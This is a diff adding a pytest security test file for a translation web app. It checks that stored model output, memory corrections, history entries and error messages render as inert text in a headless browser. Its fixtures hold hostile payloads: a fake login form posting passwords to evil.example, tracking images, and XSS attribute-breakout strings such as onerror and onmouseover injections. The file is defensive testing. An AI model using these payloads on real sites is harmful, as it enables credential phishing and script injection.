@@ -1,0 +1,254 @@
+"""Issue #20's web attacks, replayed against the real server (uvicorn on 127.0.0.1, a free
+port) and the page in headless Chromium: stored markup (1), a client that drops an NDJSON
+stream (2), bodies and auth on every route (8), private downloads (9). The models are
+scripted or tiny, so each attack runs in seconds."""
+
+from __future__ import annotations
+
+import http.server
+import re
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import gradio as gr
+import pytest
+
+from service.app.desk import open_entry
+from service.app.gate import Pipelines
+from service.app.outputs import DownloadStore
+from service.app.render import review_rows
+from service.app.review import sentence_rows
+from service.app.server import Running, create_app, serve_in_thread
+from service.config import Settings
+from service.pipeline import Pipeline, StreamEvent
+from tests.fakes import FakeEngine
+from tests.test_browser import CHROMIUM, TIMEOUT_MS, open_page
+from tests.test_review import ANSWERS, ARTICLE, rendered
+
+pytestmark = pytest.mark.filterwarnings("ignore:.*:Warning:gradio.queueing")
+
+COST = "Kosztował 200 mln zł."
+needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium")
+
+
+# --------------------------------------------------------------------------------------
+# 1. Stored markup: model output, memory entries and history show as text
+
+
+class Tracker:
+    """A local HTTP server that counts requests: a remote image or link the page loads."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def payload(self, where: str) -> str:
+        return (
+            'Log in again <form action="https://evil.example/steal"><input name="password">'
+            f"<button>Log in</button></form> [here](https://evil.example/x) "
+            f"![x]({self.url}/{where}.png) <img src={self.url}/{where}-tag.png>"
+        )
+
+
+class Warned:
+    """A scripted pipeline whose results carry one more (hostile) warning."""
+
+    def __init__(self, pipeline: Pipeline, warning: str):
+        self.pipeline, self.warning = pipeline, warning
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.pipeline, name)
+
+    def stream(self, text: str, **kw: Any) -> Iterator[StreamEvent]:
+        for event in self.pipeline.stream(text, **kw):
+            if event.kind == "done" and event.result is not None:
+                event.result.warnings.append(self.warning)
+            yield event
+
+
+@pytest.fixture(scope="module")
+def tracker() -> Iterator[Tracker]:
+    tracker = Tracker()
+    yield tracker
+    tracker.server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def stored(tmp_path_factory: pytest.TempPathFactory, tracker: Tracker) -> Iterator[Running]:
+    """The page over a scripted model whose summary repeats the English it is given
+    (so a remembered correction reaches the summary), with the memory on."""
+    tmp = tmp_path_factory.mktemp("stored")
+    engines = {
+        "translation": FakeEngine(lambda text, guarded: ANSWERS.get(text, f"EN {text}")),
+        "summary": FakeEngine(lambda text, guarded: text, max_input_tokens=500),
+    }
+    settings = Settings(
+        models_dir=tmp, memory_path=tmp / "memory.sqlite3", builtin_glossary=False
+    )
+    pipeline = Pipeline(settings)
+    pipeline.engine = lambda task: engines[task]  # type: ignore[method-assign]
+    wrapped = Warned(pipeline, tracker.payload("warning"))
+    running = serve_in_thread(create_app(settings, pipelines=Pipelines(lambda p: wrapped)))  # type: ignore[arg-type,return-value]
+    yield running
+    running.stop()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    from tests.test_browser import CHROMIUM_ARGS
+
+    with sync_playwright() as pw:
+        chromium = pw.chromium.launch(
+            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
+        )
+        yield chromium
+        chromium.close()
+
+
+MARKUP = "form, input[name=password], a[href*='evil.example'], img[src*='127.0.0.1']"
+
+
+def _translate(page: Any) -> None:
+    from playwright.sync_api import expect
+
+    page.locator("#pl2en-translate").click()
+    expect(page.locator("#pl2en-english [data-state=done]")).to_be_visible(timeout=TIMEOUT_MS)
+    expect(page.locator("#pl2en-review .pl2en-row")).to_have_count(len(ANSWERS))
+
+
+@needs_chromium
+@pytest.mark.browser
+def test_a_stored_correction_shows_as_text_in_another_session(
+    browser: Any, stored: Running, tracker: Tracker
+) -> None:
+    from playwright.sync_api import expect
+
+    attack = tracker.payload("summary")
+    first = open_page(browser, stored.url)
+    try:
+        first.get_by_label("Polish article").fill(ARTICLE)
+        _translate(first)
+        row = first.locator("#pl2en-review .pl2en-row").filter(has_text=COST)
+        row.get_by_role("button", name="Correct").click()
+        first.locator("#pl2en-correction-text textarea").fill(attack)
+        first.locator("#pl2en-save").click()
+        expect(first.locator("#pl2en-notice")).to_contain_text("Saved")
+    finally:
+        first.context.close()
+
+    page = open_page(browser, stored.url)  # someone else, later
+    try:
+        page.get_by_label("Polish article").fill(ARTICLE)
+        for bullets in (False, True):
+            page.get_by_label("Summary as bullets").set_checked(bullets)
+            _translate(page)
+            summary = page.locator("#pl2en-summary")
+            expect(summary).to_contain_text("Log in again <form")  # the memory's entry, as text
+            expect(page.locator("#pl2en-warnings")).to_contain_text("[here](https://evil")
+            expect(page.locator("#pl2en-review")).to_contain_text("<input name=")
+            for pane in ("#pl2en-summary", "#pl2en-warnings", "#pl2en-review", "#pl2en-english"):
+                assert page.locator(pane).locator(MARKUP).count() == 0, pane
+        with page.expect_download() as info:
+            page.locator("#pl2en-dl-md").click()
+        markdown = Path(info.value.path()).read_text(encoding="utf-8")
+        assert "Log in again" in markdown
+        assert not re.search(r"<(form|input|img|a|button)\b", rendered(markdown))
+
+        # An error pop-up quoting the input (a glossary line) shows it as text too.
+        term = f"<img src={tracker.url}/error.png>"
+        page.locator("#pl2en-glossary textarea").fill(f"{term}\tX\n{term}\tY\n")
+        page.locator("#pl2en-translate").click()
+        toast = page.get_by_test_id("toast-body")
+        expect(toast).to_contain_text("duplicate of line 1")
+        expect(toast).to_contain_text(term)
+        assert toast.locator("img").count() == 0
+        page.wait_for_timeout(500)
+    finally:
+        page.context.close()
+    assert tracker.hits == []
+
+
+def _history_entry(segment: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "v": 1,
+        "id": "abc",
+        "title": "t",
+        "when": "2025-03-14 10:00 UTC",
+        "date": None,
+        "text": "Zdanie.",
+        "preset": "quality",
+        "summary_length": "short",
+        "glossary": "",
+        "edited": [],
+        "summary_stale": False,
+        "result": {
+            "translation": "Sentence.",
+            "summary": "",
+            "segments": [segment],
+            "date": None,
+            "warnings": [],
+            "stats": {},
+            "models": {},
+            "source": "Zdanie.",
+        },
+    }
+
+
+GOOD = {
+    "paragraph": 0,
+    "source": "Zdanie.",
+    "translation": "Sentence.",
+    "sentence": 0,
+    "start": 0,
+    "end": 7,
+    "checks": [],
+    "origin": "memory",
+}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"sentence": '0"><img src=x onerror=alert(1)>'},
+        {"origin": "robot"},
+        {"paragraph": "0"},
+        {"end": 10_000},
+        {"checks": [{"kind": "fact", "message": ["not", "text"], "fixed": False}]},
+        {"checks": "none"},
+    ],
+)
+def test_a_tampered_history_entry_is_refused_field_by_field(
+    change: dict[str, Any], tmp_path: Path
+) -> None:
+    store = DownloadStore(tmp_path / "downloads")
+    shown = open_entry([_history_entry(GOOD)], "abc", False, store)  # the untampered entry
+    assert 'data-s="0"' in shown["review"]
+    with pytest.raises(gr.Error, match="no longer in this browser"):
+        open_entry([_history_entry({**GOOD, **change})], "abc", False, store)
+
+
+def test_attribute_values_are_escaped() -> None:
+    from service.pipeline import Segment
+
+    evil = '1" onmouseover="alert(1)'
+    segment = Segment(0, "Zdanie.", "Sentence.", evil, 0, 7, (), "robot")  # type: ignore[arg-type]
+    html = review_rows(sentence_rows([segment]))
+    assert 'data-s="1&quot; onmouseover=&quot;alert(1)"' in html
+    assert 'data-edit="1&quot; onmouseover=' in html
+    assert "onmouseover=\"" not in html and "unknown origin" in html
